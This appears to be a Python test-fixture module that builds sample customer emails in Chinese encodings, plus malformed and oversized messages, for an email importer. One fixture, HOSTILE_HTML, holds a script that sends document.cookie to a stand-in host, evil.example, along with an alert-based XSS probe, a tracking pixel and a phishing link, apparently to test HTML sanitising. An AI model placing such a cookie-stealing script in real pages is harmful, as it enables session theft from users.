"""Customer emails built with the standard library, one per case the importer must handle."""
from __future__ import annotations

import base64
from email import policy
from email.message import EmailMessage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText

SENDER = "王总 <wang.zong@client.example>"


def message(body: str, *, subject: str = "感谢李娜的出色支持", charset: str = "utf-8", cte: str | None = None,
            sender: str = SENDER, to: str = "support@example.com", subtype: str = "plain") -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = to
    msg["Subject"] = subject
    msg["Date"] = "Tue, 25 Nov 2025 10:00:00 +0800"
    msg["Message-ID"] = f"<{abs(hash((body, subject, charset)))}@client.example>"
    msg.set_content(body, subtype=subtype, charset=charset, cte=cte)
    return msg.as_bytes(policy=policy.SMTP)


def gb18030() -> bytes:
    # 𠀀 is outside GB2312 and GBK: only a real GB18030 decoder reads it.
    return message("非常感谢李娜耐心解答我们的问题𠀀，项目按时上线了。", charset="gb18030", cte="8bit")


def big5() -> bytes:
    return message("多謝張敏的耐心解答，服務一流。", subject="多謝", charset="big5", cte="8bit")


def quoted_printable_subject() -> bytes:
    """An RFC 2047 Q-encoded Chinese subject and a quoted-printable UTF-8 body, written by hand."""
    subject = "=?utf-8?Q?" + "".join(f"={b:02X}" for b in "感谢李娜的帮助".encode()) + "?="
    body = "".join(f"={b:02X}" for b in "谢谢 Emma Wilson！".encode())
    return (f"From: Client <client@client.example>\r\nTo: support@example.com\r\nSubject: {subject}\r\n"
            "Date: Tue, 25 Nov 2025 10:00:00 +0800\r\nMIME-Version: 1.0\r\n"
            "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
            f"{body}\r\n").encode("ascii")


def gb2312_base64_subject() -> bytes:
    """A base64 RFC 2047 subject labelled gb2312 (as many clients do) holding a GB18030-only character."""
    encoded = base64.b64encode("感谢𠀀李娜".encode("gb18030")).decode()
    return (f"From: client@client.example\r\nSubject: =?gb2312?B?{encoded}?=\r\n"
            "Content-Type: text/plain; charset=gb2312\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes("谢谢李娜".encode("gb18030")).decode() + "\r\n").encode("ascii")


HOSTILE_HTML = """<html><head><title>Newsletter</title><style>p { color: red }</style>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body><p>Dear team,</p><p>Many thanks to <b>Emma Wilson</b> &amp; 李娜 for the quick fix!</p>
<img src="https://tracker.example/pixel.gif?id=42" width="1" height="1">
<a href="https://evil.example/phish">Click here</a><script>alert("xss")</script>
<ul><li>Fast</li><li>Kind</li></ul></body></html>"""


def html_only() -> bytes:
    return message(HOSTILE_HTML, subject="Thanks!", subtype="html")


def multipart_alternative() -> bytes:
    outer = MIMEMultipart("alternative")
    outer["From"] = "Client <client@client.example>"
    outer["To"] = "Emma Wilson <emma@example.com>, lina@example.com"
    outer["Subject"] = "Thanks"
    outer.attach(MIMEText("Plain thanks to the team.", "plain", "utf-8"))
    outer.attach(MIMEText("<p>HTML thanks</p>", "html", "utf-8"))
    return outer.as_bytes()


MALFORMED = {
    "no sender": b"Subject: thanks\r\n\r\nGreat job everyone\r\n",
    "not an email": b"\x00\x01\x02\xff\xfe binary junk \x00",
    "broken multipart": (b'From: client@client.example\r\nContent-Type: multipart/mixed; boundary="XYZ"\r\n\r\n'
                         b"no parts here at all\r\n"),
    "multipart without boundary": b"From: client@client.example\r\nContent-Type: multipart/mixed\r\n\r\nbody\r\n",
    "no text": (b"From: client@client.example\r\nContent-Type: application/pdf\r\n"
                b"Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n"),
    "empty": b"   \r\n",
}


def oversized() -> bytes:
    """A valid message just over 5 MB (an attachment-sized body)."""
    line = "x" * 76 + "\n"
    return message(line * (5 * 1024 * 1024 // len(line) + 10), subject="big", cte="8bit")
